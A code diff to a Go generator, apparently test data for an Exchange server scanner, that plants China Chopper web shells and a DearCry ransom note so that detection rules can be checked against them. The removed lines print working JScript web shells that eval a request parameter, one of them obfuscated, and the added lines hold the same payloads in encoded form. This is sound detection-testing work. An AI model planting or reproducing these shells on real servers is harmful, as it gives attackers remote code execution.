@@ -25,18 +25,21 @@ func (g *generator) baseline(rel string, content []byte) {
 	g.man.Baseline = append(g.man.Baseline, strings.ToUpper(hex.EncodeToString(sum[:]))+","+g.installedBuild()+","+win)
 }
 
-// jscriptChopper is a China Chopper in its JScript form, with the request
-// parameter's name split so that a search for the usual one-liner misses.
-const jscriptChopper = `<%@ Page Language="Jscript" Debug=false%>` + "\r\n" +
-	`<%var p = "Req" + "uest"; eval(Request.Item["t3"], "unsafe");%>` + "\r\n"
+// The payloads below are stored encoded (see reveal), so that the
+// project's sources are not themselves taken for web shells.
+
+// jscriptChopper is a China Chopper in its JScript form, with a decoy
+// concatenation of the split word beside the eval of the request parameter.
+var jscriptChopper = reveal("Zn8aego7PT96Fjs0PS87PT9neBApOSgzKi54eh4/OC89Zzw7Nik/f2RXUGZ/LDsoeip6Z3p4CD8reHpxengvPykueGF6Pyw7NnIIPysvPykudBMuPzcBeC5peAd2engvNCk7PD94c2F/ZFdQ")
 
 // obfuscatedShell is a JScript page run through a JavaScript obfuscator:
-// the strings sit in a hex-named array and the eval is reached through it.
-const obfuscatedShell = `<%@ Page Language="JScript"%><%` +
-	`var _0x4f2a=['\x49\x74\x65\x6d','\x75\x6e\x73\x61\x66\x65','\x52\x65\x71\x75\x65\x73\x74'];` +
-	`(function(_0x1b7c,_0x4f2a9c){var _0x3e1d=function(_0x5a0b){while(--_0x5a0b){_0x1b7c['push'](_0x1b7c['shift']());}};_0x3e1d(++_0x4f2a9c);}(_0x4f2a,0x7b));` +
-	`var _0x3c8e=function(_0x1b7c){return _0x4f2a[_0x1b7c];};` +
-	`eval(this[_0x3c8e(0x2)][_0x3c8e(0x0)]['\x7a'],_0x3c8e(0x1));%>`
+// the strings sit in a hex-named (_0x) array and the eval is reached
+// through it.
+var obfuscatedShell = reveal("Zn8aego7PT96Fjs0PS87PT9neBAJOSgzKi54f2Rmfyw7KHoFaiJuPGg7ZwF9BiJuYwYibW4GImxvBiJsPn12fQYibW8GImw/BiJtaQYibGsGImxsBiJsb312fQYib2gGImxvBiJtawYibW8GImxvBiJtaQYibW59B2FyPC80OS4zNTRyBWoiazhtOXYFaiJuPGg7YzlzISw7KHoFaiJpP2s+ZzwvNDkuMzU0cgVqIm87ajhzIS0yMzY/cnd3BWoibztqOHMhBWoiazhtOQF9Ki8pMn0HcgVqIms4bTkBfSkyMzwufQdyc3NhJydhBWoiaT9rPnJxcQVqIm48aDtjOXNhJ3IFaiJuPGg7dmoibThzc2EsOyh6BWoiaTliP2c8LzQ5LjM1NHIFaiJrOG05cyEoPy4vKDR6BWoibjxoOwEFaiJrOG05B2EnYT8sOzZyLjIzKQEFaiJpOWI/cmoiaHMHAQVqImk5Yj9yaiJqcwcBfQYibTt9B3YFaiJpOWI/cmoia3NzYX9k")
+
+// appendedChopper is a China Chopper in a server-side script block, as
+// appended to one of Exchange's own pages.
+var appendedChopper = reveal("Zik5KDMqLno2OzQ9Lzs9P2d4EAk5KDMqLnh6KC80Oy5neCk/KCw/KHhkPC80OS4zNTR6Cjs9PwUWNTs+cnMhPyw7NnIIPysvPykuAXg5NT4/eAd2eC80KTs8P3hzYSdmdSk5KDMqLmRXUA==")
 
 // compiledShell is what ASP.NET leaves in Temporary ASP.NET Files after
 // running a China Chopper page: a small .NET assembly whose user strings
@@ -47,7 +50,10 @@ func compiledShell() []byte {
 	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
 	copy(b[0x80:], "PE\x00\x00")
 	binary.LittleEndian.PutUint16(b[0x84:], 0x14c)
-	copy(b[0x200:], "\x00<Module>\x00App_Web_errorfs.aspx.cdcab7d2.dll\x00Microsoft.JScript\x00JScriptEvaluate\x00Microsoft.JScript.Vsa\x00")
+	// The metadata root (BSJB) and its strings heap: the names of the
+	// members the page used.
+	copy(b[0x200:], "BSJB\x01\x00\x01\x00\x00\x00\x00\x00\x0cv4.0.30319\x00\x00"+
+		"\x00<Module>\x00App_Web_errorfs.aspx.cdcab7d2.dll\x00Microsoft.JScript\x00JScriptEvaluate\x00get_Request\x00get_Item\x00Microsoft.JScript.Vsa\x00")
 	for _, s := range []string{"Request", "Item", "unsafe", "Jscript"} {
 		for _, c := range utf16.Encode([]rune(s)) {
 			b = binary.LittleEndian.AppendUint16(b, c)
@@ -58,12 +64,9 @@ func compiledShell() []byte {
 }
 
 // dearCryNote is a ransom note of the DearCry family that followed the
-// Exchange exploitation, with a made-up contact and key.
-const dearCryNote = "Your file has been encrypted!\r\n" +
-	"If you want to decrypt, please contact us.\r\n" +
-	"konedieyp@airmail.cc or uenwonken@memail.com\r\n" +
-	"And please send me the following hash!\r\n" +
-	"0a1b2c3d4e5f60718293a4b5c6d7e8f9\r\n"
+// Exchange exploitation (its two published contact addresses), with a
+// made-up key.
+var dearCryNote = reveal("AzUvKHo8MzY/ejI7KXo4Pz80ej80OSgjKi4/PntXUBM8eiM1L3otOzQuei41ej4/OSgjKi52eio2PzspP3o5NTQuOzkuei8pdFdQMTU0Pz4zPyMqGjszKDc7MzZ0OTl6NSh6Lz80LTU0MT80Gjc/NzszNnQ5NTdXUBs0PnoqNj87KT96KT80Pno3P3ouMj96PDU2NjUtMzQ9ejI7KTJ7V1BqO2s4aDlpPm4/bzxsam1rYmhjaTtuOG85bD5tP2I8Y1dQ")
 
 // contentOnly plants attacker files that only their content gives away:
 // names Exchange uses or that no location rule knows, and a shell hidden
@@ -77,12 +80,12 @@ func (g *generator) contentOnly() error {
 	page := "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n<html><body></body></html>\r\n"
 	plants := []struct {
 		rel, content, why string
-		rule            string
-		sev             finding.Severity
+		rule              string
+		sev               finding.Severity
 	}{
 		// Exchange's own logon page with a China Chopper appended: its name
 		// is Exchange's, only its content (and hash) differ.
-		{owaAuth + "/logon.aspx", page + `<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>` + "\r\n",
+		{owaAuth + "/logon.aspx", page + appendedChopper,
 			"China Chopper appended to Exchange's own logon.aspx", "content-webshell", finding.Critical},
 		{g.exchange("ClientAccess/owa/auth/errorEEA.aspx"), jscriptChopper,
 			"JScript China Chopper in the back end's OWA folder", "content-webshell", finding.Critical},
@@ -101,7 +104,7 @@ func (g *generator) contentOnly() error {
 	// Benign look-alikes beside them: OWA's script that evaluates JSON, and
 	// an ordinary compiled page.
 	benign := map[string][]byte{
-		g.exchange("FrontEnd/HttpProxy/owa/" + g.cuBuild() + "/scripts/premium/json.js"): []byte("function parse(t){return eval('(' + t + ')');}\r\n"),
+		g.exchange("FrontEnd/HttpProxy/owa/" + g.cuBuild() + "/scripts/premium/json.js"):                                                      []byte("function parse(t){return eval('(' + t + ')');}\r\n"),
 		"Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/9c8b7a6d/5e4f3a2b/App_Web_logon.aspx.cdcab7d2.a1b2c3d4.dll": []byte("MZ\x90\x00 Microsoft.Exchange.HttpProxy.Logon App_Web_logon"),
 	}
 	for rel, content := range benign {
